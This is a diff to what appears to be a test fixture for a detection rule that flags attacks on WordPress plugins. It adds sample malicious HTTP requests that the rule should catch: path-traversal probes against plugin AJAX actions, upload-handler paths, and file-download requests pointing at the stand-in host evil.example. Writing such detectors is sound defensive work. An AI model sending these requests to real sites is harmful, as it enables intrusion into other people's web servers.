@@ -101,6 +101,19 @@ export default defineRule({
     wp-json/batch/v1 wpdiscuz-ajax.php ait-csv-import-export/admin/upload-handler.php
     backup-backup/includes/backup-heart.php simple-file-list/ee-upload-engine.php simple-file-list/ee-file-engine.php`,
     ),
+    'GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../revslider HTTP/1.1',
+    'GET /wp-admin/admin-ajax.php?action=duplicator_download&img=../duplicator HTTP/1.1',
+    'GET /wp-admin/admin-ajax.php?action=formcraft3_get&img=../formcraft3 HTTP/1.1',
+    'GET /wp-admin/admin-ajax.php?action=um_get_members&img=../um_get_members HTTP/1.1',
+    ...each(
+      'GET /wp-content/plugins/x/lib/{}?f=a HTTP/1.1',
+      'forcedownload.php uploads.php uploadify.php uploader.php upload-file.php upload_file.php',
+    ),
+    'GET /wp-content/themes/x/file-download.php?src=http://evil.example/a.php HTTP/1.1',
+    'GET /wp-content/themes/x/file_download.php?src=http://evil.example/a.php HTTP/1.1',
+    'GET /wp-admin/admin-ajax.php?action=wc_help_scout_upload_attachments&img=../wc_help_scout HTTP/1.1',
+    'GET /wp-admin/admin-ajax.php?action=hurraki_tooltip_proxy&img=../hurraki_tooltip HTTP/1.1',
+    'GET /wp-admin/admin-ajax.php?action=workreap_award_temp_file_uploader&img=../workreap HTTP/1.1',
   ],
   misses: [
     'GET /wp-admin/admin-ajax.php?action=heartbeat HTTP/1.1',
